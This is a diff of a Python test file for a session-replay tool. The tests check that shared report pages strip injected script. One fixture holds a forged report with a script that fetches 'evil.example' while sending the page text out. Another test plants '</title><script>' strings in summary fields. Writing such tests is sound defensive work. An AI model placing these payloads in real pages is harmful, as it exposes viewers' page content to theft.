@@ -4,6 +4,7 @@ import base64
 import gzip
 import json
 import re
+import shutil
 import time
 from dataclasses import replace
 
@@ -21,6 +22,7 @@ import replay
 from replay.base.machine import versions
 from replay.cli.demo import DETECTORS as DEMO
 from replay.errors import OutputError, RunFolderError
+from replay.outputs.report.markup import ALLOWED
 from replay.outputs.rerun_log import web_viewer as module
 from replay.outputs.rerun_log.overview import read_moments
 from replay.outputs.rerun_log.viewer import ViewerError
@@ -164,7 +166,8 @@ def test_a_rerun_without_a_viewer_leaves_the_report_alone(run, tmp_path, monkeyp
     why = write_shared_folder([read_run_folder(run)], tmp_path / "sent")
     assert why == "this rerun-sdk ships no viewer for a browser"
     assert sorted(one.name for one in (tmp_path / "sent").iterdir()) == ["index.html", "share.json"]
-    assert (tmp_path / "sent" / "index.html").read_text() == (run / "report.html").read_text()
+    page = (tmp_path / "sent" / "index.html").read_text()
+    assert "<script" not in page and "slow" in page
 
 
 def test_what_hands_out_no_viewer_is_one_sentence(tmp_path, monkeypatch):
@@ -176,20 +179,33 @@ def test_what_hands_out_no_viewer_is_one_sentence(tmp_path, monkeypatch):
         module.web_viewer()
 
 
-def test_a_run_without_a_picture_or_with_a_report_of_another_version(run, tmp_path, monkeypatch):
+REPLACED = """<!doctype html><html><head><!-- {policy} --><title>Nothing missed</title>
+<script>fetch("https://evil.example/" + document.body.innerText)</script></head><body></footer></body></html>"""
+
+
+def test_a_replaced_report_is_never_passed_on(run, tmp_path, monkeypatch):
     monkeypatch.setattr(module, "web_viewer", lambda: {module.SCRIPT: b"", module.PROGRAM: b""})
-    folder = read_run_folder(run)
-    bare = replace(folder, path=tmp_path / "bare")
-    bare.path.mkdir()
-    with pytest.raises(RunFolderError, match=r"holds no report\.html; replay the session again"):
-        write_shared_folder([bare], tmp_path / "sent")
-    (bare.path / "report.html").write_text("<title>t</title>")
-    (bare.path / "summary.json").write_bytes((run / "summary.json").read_bytes())
-    assert write_shared_folder([bare], tmp_path / "alone") == "no run holds a picture (run.rrd)"
-    (bare.path / "run.rrd").write_bytes((run / "run.rrd").read_bytes())
-    with pytest.raises(RunFolderError, match="of another version; replay the session again"):
-        write_shared_folder([bare], tmp_path / "sent")
-    assert not (tmp_path / "sent").exists()
+    forged = shutil.copytree(run, tmp_path / "forged")
+    (forged / "report.html").write_text(REPLACED.format(policy=ALLOWED))
+    assert write_shared_folder([read_run_folder(forged)], tmp_path / "sent") == ""
+    write_shared_folder([read_run_folder(run)], tmp_path / "good")
+    pages = [(tmp_path / name / "index.html").read_text() for name in ("sent", "good")]
+    assert pages[0] == pages[1] and "evil" not in pages[0] and "Nothing missed" not in pages[0]
+    (forged / "report.html").unlink()
+    (forged / "run.rrd").unlink()
+    assert write_shared_folder([read_run_folder(forged)], tmp_path / "alone") == "no run holds a picture (run.rrd)"
+
+
+def test_words_of_a_summary_are_text_in_the_page(run, tmp_path):
+    forged = shutil.copytree(run, tmp_path / "forged")
+    (forged / "run.rrd").unlink()
+    text = (forged / "summary.json").read_text()
+    told = json.loads(text.replace('"slow"', json.dumps("slow</title><script>x</script>")))
+    told["session"]["facts"]["pseudonym"] = told["session"]["scene"] = "</title><script>x</script></head>"
+    (forged / "summary.json").write_text(json.dumps(told))
+    write_shared_folder([read_run_folder(forged)], tmp_path / "sent")
+    page = (tmp_path / "sent" / "index.html").read_text()
+    assert "<script" not in page and page.count("</title>") == page.count("</head>") == 1
 
 
 def test_runs_share_one_viewer_and_a_list_leads_to_them(run, tmp_path, monkeypatch):
@@ -199,7 +215,7 @@ def test_runs_share_one_viewer_and_a_list_leads_to_them(run, tmp_path, monkeypat
     own = {f"run{k}.{kind}" for k in (1, 2) for kind in ("html", "js", "rrd")}
     assert names == own | {"index.html", "viewer.js", "re_viewer.js", "picture.js", "share.json"}
     text = (tmp_path / "sent" / "index.html").read_text()
-    title = re.findall("<title>(.*?)</title>", (run / "report.html").read_text())[0]
+    title = re.findall("<title>(.*?)</title>", (tmp_path / "sent" / "run1.html").read_text())[0]
     assert [text.count(f'href="run{k}.html"') for k in (1, 2)] == [1, 1] and text.count(title) == 2
     assert 'data-recording="run2"' in (tmp_path / "sent" / "run2.html").read_text()
     write_shared_folder([read_run_folder(run)], tmp_path / "sent", force=True)
